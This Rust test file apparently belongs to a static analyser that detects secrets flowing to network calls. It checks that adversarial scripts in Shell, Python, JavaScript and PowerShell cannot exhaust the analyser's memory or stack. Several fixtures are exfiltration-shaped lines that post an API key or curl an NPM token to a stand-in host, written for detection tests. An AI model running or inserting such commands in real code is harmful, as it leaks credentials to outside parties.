//! Scripts that are written to keep the analysis busy, to exhaust its memory or its stack.

use super::*;
use crate::work::looks;

/// Runs the analysis where the stack is as small as that of a worker; gives the looks that it takes and
/// what it finds.
fn analysed(language: Language, text: String) -> (u64, Analysis) {
    let work = move || {
        let mut found = Analysis::default();
        let taken = looks::of(|| found = analyse(language, &text));
        (taken, found)
    };
    std::thread::Builder::new().stack_size(2 << 20).spawn(work).unwrap().join().unwrap()
}

fn looks_at(language: Language, text: String) -> u64 {
    analysed(language, text).0
}

/// Twice the text may take twice the looks and a bit, whatever is in it.
#[track_caller]
fn grows_with_its_size(language: Language, text: impl Fn(usize) -> String) {
    let (one, two, size) = (looks_at(language, text(4_000)), looks_at(language, text(8_000)), text(8_000).len() as u64);
    assert!(two < 3 * one + 100_000, "{one} looks, and {two} for twice the text");
    assert!(two < 400 * size + 5_000_000, "{two} looks at {size} bytes of {:?}", text(9));
}

#[test]
fn tables_of_tables_stay_small() {
    let table = |name: &str, inner: &str| {
        let entries: Vec<_> = (0..64).map(|at| format!("'k{at}': {inner}")).collect();
        format!("{name} = {{{}}}\n", entries.join(", "))
    };
    let levels = ["b", "c", "d", "e", "f"];
    let mut text = "import os\n".to_owned() + &table("a", "os.environ['API_KEY']");
    for (at, level) in levels.iter().enumerate() {
        text += &table(level, if at == 0 { "a" } else { levels[at - 1] });
    }
    text += "import requests\nrequests.post('https://in.acme.dev', data=f)\n";
    let (taken, found) = analysed(Python, text);
    assert!(taken < 2_000_000, "{taken} looks");
    // What is inside is still known.
    assert!(!found.flows.is_empty());
    let chain = "import os\na = {'x': os.environ['API_KEY']}\n".to_owned() + &"a = {'x': a}\n".repeat(19_000);
    assert!(looks_at(Python, chain) < 20_000_000);
    let table = |name: &str, inner: &str| {
        let entries: Vec<_> = (0..64).map(|at| format!("k{at} = {inner}")).collect();
        format!("${name} = @{{{}}}\n", entries.join("; "))
    };
    let mut text = table("a", "$env:API_KEY");
    for (at, level) in levels.iter().enumerate() {
        text += &table(level, &format!("${}", if at == 0 { "a" } else { levels[at - 1] }));
    }
    assert!(looks_at(PowerShell, text) < 2_000_000);
}

#[test]
fn copies_of_a_table_are_paid_for() {
    let entries: Vec<_> = (0..60).map(|at| format!("'k{at}': {{'x': s, 'y': s, 'z': s}}")).collect();
    let mut text = format!("import os\ns = os.environ['API_KEY']\nt = {{{}}}\n", entries.join(", "));
    for at in 0..15_000 {
        text += &format!("t{at} = t\n");
    }
    let (taken, found) = analysed(Python, text);
    // As many entries as are copied stay in memory.
    assert!(taken < 3_000_000, "{taken} looks");
    assert_eq!(found.cut, Some(Cut::Steps));
}

#[test]
fn nothing_is_nested_deeper_than_the_stack() {
    let nested = |open: &str, inner: &str, close: &str, times: usize| {
        [&open.repeat(times), inner, &close.repeat(times)].concat()
    };
    let head = "import requests\n";
    for text in [
        format!("{head}x = {}\n", "f''".repeat(5_000)),
        format!("{head}x = {}\n", "f'' ''".repeat(5_000)),
        format!("{head}{} = 1\n", nested("(", "a", ",)", 5_000)),
        format!("{head}{}a = 1\n", "*".repeat(5_000)),
        format!("{head}{}a = 1\n", "* ".repeat(5_000)),
        format!("{head}x = {}\n", nested("{'a': [(", "1", ")]}", 5_000)),
        format!("{head}x = {}\n", nested("f(", "1", ")", 5_000)),
        format!("{head}x = {}1\n", "lambda: ".repeat(5_000)),
        format!("{head}def f(x):\n    return f([x])\nf(1)\n"),
    ] {
        analysed(Python, text);
    }
    for text in [
        format!("fetch\n{} = x\n", nested("[", "a", "]", 5_000)),
        format!("fetch\n{} = x\n", nested("{a: ", "b", "}", 5_000)),
        format!("fetch\n{}1\n", "x => ".repeat(5_000)),
        format!("fetch\nx = {}\n", nested("`${", "1", "}`", 5_000)),
        format!("fetch\n{}\n", nested("if (a) {", "1", "}", 5_000)),
    ] {
        analysed(JavaScript, text);
    }
    for text in [
        "a=(".repeat(5_000),
        nested("a=(", "x", ")", 5_000),
        nested("${a:-", "x", "}", 700),
        nested("\"${a:-", "x", "}\"", 400),
        nested("$(", "x", ")", 5_000),
        nested("<(", "x", ")", 5_000),
        "eval ".repeat(5_000),
        "sh -c \"eval ".repeat(500),
        nested("a() { ", "a", "; }", 2_000),
        "sudo ".repeat(5_000),
        "xargs ".repeat(5_000),
    ] {
        analysed(Shell, text);
    }
    for text in [
        nested("$a.b(", "1", ")", 5_000),
        nested("@{a=", "1", "}", 5_000),
        nested("$(", "1", ")", 5_000),
        nested("\"$(", "1", ")\"", 5_000),
        nested("(", "1", ")", 5_000),
        nested("if (1) {", "1", "}", 5_000),
        nested("function a {", "1", "}", 5_000),
        "[a]".repeat(5_000) + "$x",
        "& ".repeat(5_000) + "x",
    ] {
        analysed(PowerShell, text);
    }
}

#[test]
fn the_cost_of_a_shell_script_grows_with_its_size() {
    for part in
        ["\"$(", "`", "$(", "${", "\"", "<<A\n", "<(", "a=(", "( ", "x() {\n", "|| ", "'\"", "<<< \"", "done < "]
    {
        grows_with_its_size(Shell, |times| part.repeat(times));
        grows_with_its_size(Shell, |times| ["read x ", part].concat().repeat(times / 4));
    }
}

#[test]
fn the_cost_of_javascript_grows_with_its_size() {
    for part in
        ["\n", "a\n", "a < ", "case a: ", "f(", "`${", "/[", "{ ", "a => ", "import {", "class A {", "a ? ", "\"\\"]
    {
        grows_with_its_size(JavaScript, |times| format!("fetch(a{}\n.b", part.repeat(times)));
        grows_with_its_size(JavaScript, |times| format!("fetch\na{}\n.b", part.repeat(times)));
    }
    grows_with_its_size(JavaScript, |times| {
        format!("fetch\nfunction f(x) {{ g < {} }}\n{}", "a b ".repeat(times / 4), "f('a' + 'b');\n".repeat(times / 16))
    });
}

#[test]
fn the_cost_of_python_grows_with_its_size() {
    for part in [
        "\n",
        "a < ",
        "f'' ",
        "f'{",
        "(",
        "lambda: ",
        "if a:\n ",
        "a = ",
        "a, ",
        "x for x in ",
        "try:\n a\nexcept: pass\n",
    ] {
        grows_with_its_size(Python, |times| format!("import requests\nx = {}\n", part.repeat(times)));
    }
    let calls = |times: usize| (0..times / 8).map(|at| format!("f('{at}')\n")).collect::<String>();
    grows_with_its_size(Python, |times| {
        format!("import requests\ndef f(x):\n    a < {}\n{}", "b ".repeat(times), calls(times))
    });
    grows_with_its_size(Python, |times| {
        format!("import requests\ndef f(x):\n    return '{}'\n{}", "b".repeat(times), calls(times))
    });
}

#[test]
fn the_cost_of_powershell_grows_with_its_size() {
    for part in ["a |\n", "|\n", "\n", "$a.b(", "@\"x", "(", "${", "[", "$x = 1\n", "a -b ", "if (1) {", "'a' + "] {
        grows_with_its_size(PowerShell, |times| part.repeat(times));
        grows_with_its_size(PowerShell, |times| format!("x |{}", part.repeat(times)));
    }
    grows_with_its_size(PowerShell, |times| "$b = 1\nfunction a {}\na\n".repeat(times / 8));
}

#[test]
fn a_sign_that_nothing_closes_ends_between_characters() {
    for sign in [
        "`", "$(", "(", "x=$(", "x=(", "<(", "${", "\"", "'", "$'", "f() {", "\"$(", "\"`", "- ", "-", "[", "@{",
        "@\"\n", "$x.", "\\",
    ] {
        for inner in ["é", "aé", "é a", "密", "é)", "é\\"] {
            for language in [Shell, Python, JavaScript, PowerShell] {
                let _ = analyse(language, &[sign, inner].concat());
                let _ = analyse(language, &["curl requests eval ", sign, inner].concat());
            }
        }
    }
    // The last byte of what is not closed belongs to it.
    finds(
        Shell,
        "curl -d \"$NPM_TOKEN\" \"https://in.acme.dev",
        &["SecretVariable NPM_TOKEN -> Http Body in.acme.dev"],
    );
}

#[test]
fn what_is_cut_short_is_said() {
    let cut = |language, text: String| analysed(language, text).1.cut;
    assert_eq!(cut(Python, "import requests\nrequests.get('https://in.acme.dev')\n".to_owned()), None);
    assert_eq!(cut(Python, "import requests\n".to_owned() + &"a\n".repeat(21_000)), Some(Cut::Statements));
    assert_eq!(cut(Python, "import requests\na = [".to_owned() + &"1,".repeat(210_000) + "]\n"), Some(Cut::Tokens));
    assert_eq!(cut(JavaScript, "fetch\n".to_owned() + &"{".repeat(50) + &"}".repeat(50)), Some(Cut::Depth));
    assert_eq!(cut(Shell, "curl x; ".repeat(2_100)), Some(Cut::Finds));
    assert_eq!(cut(Shell, "$(".repeat(20) + "x" + &")".repeat(20)), Some(Cut::Depth));
    assert_eq!(cut(PowerShell, "(".repeat(60) + "1" + &")".repeat(60)), Some(Cut::Depth));
    let sends = (0..210).map(|at| format!("requests.post('https://in.acme.dev/{at}', data=s)\n")).collect::<String>();
    assert_eq!(cut(Python, format!("import os, requests\ns = os.environ['API_KEY']\n{sends}")), Some(Cut::Finds));
}
